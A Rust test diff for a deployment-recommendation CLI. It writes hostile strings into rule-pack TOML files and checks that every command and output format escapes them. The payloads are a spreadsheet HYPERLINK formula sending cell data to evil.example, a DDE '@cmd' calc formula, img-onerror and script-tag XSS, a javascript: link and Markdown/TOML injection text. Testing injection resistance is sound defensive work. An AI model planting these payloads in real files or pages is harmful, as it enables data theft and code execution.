@@ -265,3 +265,107 @@ fn a_long_unbroken_word_wraps_in_linear_time() {
     assert!(ja.contains("日本語"));
     assert!(took < Duration::from_secs(10), "{took:?}");
 }
+
+/// Hostile text that validation allows (no control characters): HTML, links, a
+/// formula, Markdown blocks on new lines, as a TOML basic string's contents.
+const ALLOWED: &str = "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"x\\\") <img src=x onerror=alert(1)> \
+    [click](javascript:alert(1))\\n## HOSTILE heading\\n| HOSTILE | row |\\n- HOSTILE item\\n```\\nHOSTILE code";
+
+/// The default rules exported and edited so that names, criteria, question texts,
+/// option labels, reasons and sources all start with [`ALLOWED`].
+fn hostile_pack(dir: &std::path::Path) -> std::path::PathBuf {
+    let pack = dir.join("pack");
+    let status = support::cmd().arg("rules").arg("export").arg(&pack).output().unwrap_or_else(|e| panic!("{e}"));
+    assert!(status.status.success(), "{}", String::from_utf8_lossy(&status.stderr));
+    let edit = |name: &str, from: &str, to: &str| {
+        let path = pack.join(name);
+        let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{e}"));
+        assert!(text.contains(from), "{name} has no {from}");
+        std::fs::write(&path, text.replace(from, to)).unwrap_or_else(|e| panic!("{e}"));
+    };
+    edit("patterns.toml", "name = { en = \"ECS on EC2\"", &format!("name = {{ en = \"{ALLOWED}\""));
+    edit("criteria.toml", "name = { en = \"Cost\"", &format!("name = {{ en = \"{ALLOWED}\""));
+    edit("questions.toml", "text = { en = \"", &format!("text = {{ en = \"{ALLOWED} "));
+    edit("questions.toml", "label = { en = \"", &format!("label = {{ en = \"{ALLOWED} "));
+    edit("ratings.toml", "reason = { en = \"", &format!("reason = {{ en = \"{ALLOWED} "));
+    edit("team.toml", "reason = { en = \"", &format!("reason = {{ en = \"{ALLOWED} "));
+    edit("ratings.toml", "source = \"", "source = \"@cmd|' /C calc'!A0 <script>alert(1)</script> ");
+    pack
+}
+
+#[test]
+fn hostile_text_that_validation_allows_is_safe_through_every_command_and_format() {
+    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let pack = hostile_pack(dir.path());
+    let answers = support::write(
+        dir.path(),
+        "a.toml",
+        &format!(
+            "{}\nk8s_in_use = \"production\"\nregion = \"us-east-1\"\ntasks = 4\ntask_vcpu = 1\ntask_memory_gib = 2\n",
+            support::COMPLETE.replace("k8s_in_use = \"none\"\n", "")
+        ),
+    );
+    let a = answers.to_str().unwrap_or_default();
+    let p = pack.to_str().unwrap_or_default();
+    let all = ["table", "markdown", "json", "csv", "html", "adr"];
+    let mut runs: Vec<(Vec<String>, &str)> = Vec::new();
+    for format in all {
+        runs.push((vec!["recommend".into(), "--no-input".into(), "--answers".into(), a.into()], format));
+        runs.push((
+            vec!["recommend".into(), "--no-input".into(), "--answers".into(), a.into(), "--versus".into(), a.into()],
+            format,
+        ));
+        runs.push((vec!["compare".into()], format));
+        runs.push((vec!["compare".into(), "--answers".into(), a.into()], format));
+        if format != "adr" {
+            runs.push((vec!["cost".into(), "--answers".into(), a.into()], format));
+        }
+        if matches!(format, "table" | "markdown" | "json") {
+            runs.push((vec!["rules".into(), "list".into()], format));
+        }
+    }
+    runs.push((vec!["questions".into()], "table"));
+    runs.push((vec!["questions".into()], "toml"));
+    let mut failures = Vec::new();
+    for (args, format) in &runs {
+        let output = support::cmd()
+            .args(["--rules", p, "--rules-only"])
+            .args(args)
+            .args(["--format", format])
+            .output()
+            .unwrap_or_else(|e| panic!("{e}"));
+        let doc = String::from_utf8_lossy(&output.stdout).into_owned();
+        if !output.status.success() {
+            failures.push(format!(
+                "{args:?} {format}: exit {:?}: {}",
+                output.status.code(),
+                String::from_utf8_lossy(&output.stderr)
+            ));
+            continue;
+        }
+        let problems: Vec<String> = match *format {
+            "table" => doc.chars().filter(|c| is_unsafe_on_a_terminal(*c)).map(|c| format!("raw {c:?}")).collect(),
+            "markdown" | "adr" => markdown_problems(&doc),
+            "csv" => csv_problems(&doc),
+            "json" => {
+                serde_json::from_str::<serde_json::Value>(&doc).err().map(|e| e.to_string()).into_iter().collect()
+            }
+            "html" => ["<img", "<script", "href=\"javascript:"]
+                .iter()
+                .filter(|r| doc.contains(**r))
+                .map(|r| format!("raw {r}"))
+                .collect(),
+            _ => match toml::from_str::<toml::Table>(&doc) {
+                Ok(t) if t.contains_key("region") || t.keys().any(|k| k.contains("HOSTILE")) => {
+                    vec![format!("injected keys {t:?}")]
+                }
+                Ok(_) => Vec::new(),
+                Err(e) => vec![e.to_string()],
+            },
+        };
+        for problem in problems.into_iter().take(3) {
+            failures.push(format!("{args:?} --format {format}: {problem}"));
+        }
+    }
+    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
+}
